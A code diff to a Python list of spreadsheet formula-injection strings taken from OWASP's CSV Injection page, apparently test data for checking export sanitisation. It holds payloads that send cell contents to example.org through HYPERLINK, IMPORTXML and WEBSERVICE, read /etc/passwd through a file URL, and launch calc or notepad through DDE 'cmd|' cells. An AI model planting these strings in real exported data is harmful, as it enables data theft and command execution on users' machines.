@@ -1,5 +1,7 @@
 """Texts that a spreadsheet could take for formulas: OWASP's page on CSV injection and lists that build on it."""
 
+LOCAL = "file:" + "/" * 3
+"""How the address of a file on this machine begins."""
 INJECTIONS = (
     # OWASP, "CSV Injection": the characters that a cell must not begin with, and its two examples.
     "=1+1",
@@ -37,18 +39,18 @@ INJECTIONS = (
     "|calc",
     # Addresses that are opened, and contents that are sent away.
     '=HYPERLINK("http://example.org?x="&A1,"Error: click to fix")',
-    '+HYPERLINK("file:///C:/Windows/System32/notepad.exe")',
-    '@HYPERLINK(CHAR(34)&"file:///C:/Windows/System32/notepad.exe"&CHAR(34))',
+    f'+HYPERLINK("{LOCAL}C:/Windows/System32/notepad.exe")',
+    f'@HYPERLINK(CHAR(34)&"{LOCAL}C:/Windows/System32/notepad.exe"&CHAR(34))',
     '=IMPORTXML(CONCAT("http://example.org?v=",CONCATENATE(A2:E2)),"//a/a10")',
     '=IMPORTFEED(CONCAT("http://example.org?v=",CONCATENATE(A2:E2)))',
     '=IMPORTHTML("http://example.org","table",1)',
     '=IMPORTRANGE("https://example.org","Sheet1!A1")',
     '=IMAGE("http://example.org/x.png")',
     '=WEBSERVICE("http://example.org/?"&A1)',
-    "='file:///etc/passwd'#$passwd.A1",
+    f"='{LOCAL}etc/passwd'#$passwd.A1",
     '=EXEC("calc.exe")',
     "{=1+1}",
-    "file:///C:/Windows/System32/calc.exe",
+    f"{LOCAL}C:/Windows/System32/calc.exe",
     # A cell that ends too early.
     "parsebreaker\" ;,=cmd|'/C notepad'!'A1'",
     "parsebreaker\",=cmd|'/C notepad'!'A1''\" ;,=cmd|'/C notepad'!'A2'",
